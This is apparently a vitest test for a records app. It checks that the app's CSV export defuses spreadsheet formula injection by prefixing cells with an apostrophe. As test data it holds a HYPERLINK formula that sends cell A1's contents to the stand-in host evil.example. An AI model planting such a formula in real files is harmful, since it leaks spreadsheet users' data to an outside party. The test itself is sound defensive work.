/**
 * Issue 11, item 14: the records app's own CSV export neutralises formulas by the jobs
 * export's rule. A record named like a formula, imported by one tenant, must reach whoever
 * opens the export in a spreadsheet as text.
 */
import { describe, expect, it } from 'vitest';
import { ACME, useAppStack, type AppStack } from './app-stack.ts';

let s: AppStack;
useAppStack((stack) => (s = stack));

describe('issue 11 item 14: formulas in the records export', () => {
  it('writes a cell that starts like a formula with a leading apostrophe', async () => {
    const formula = '=HYPERLINK("https://evil.example/?d="&A1,"Invoice")';
    await s.putFile(`imports/${ACME}/risky.csv`, `name,type,city,employees\r\n"${formula.replaceAll('"', '""')}",a,@Berlin,5\r\n`);
    const imported = await s.call('POST', '/api/jobs', s.tokens.acme, {
      type: 'IMPORT_RECORDS',
      data: { entityName: 'risky', fileName: `imports/${ACME}/risky.csv` },
    });
    expect(imported.status).toBe(201);
    await s.settle(ACME);
    const exported = await s.call('POST', '/api/jobs', s.tokens.acme, { type: 'EXPORT_RECORDS', data: { entityName: 'risky' } });
    await s.settle(ACME);

    const file = (await s.call('GET', `/api/jobs/${exported.body.id}`, s.tokens.acme)).body.resultFile as string;
    const [, row] = (await s.readFile(file)).split('\r\n');
    expect(row).toMatch(/^[\w-]+,"'=HYPERLINK\(""https:\/\/evil\.example\/\?d=""&A1,""Invoice""\)",a,'@Berlin,5,0$/);
  });
});
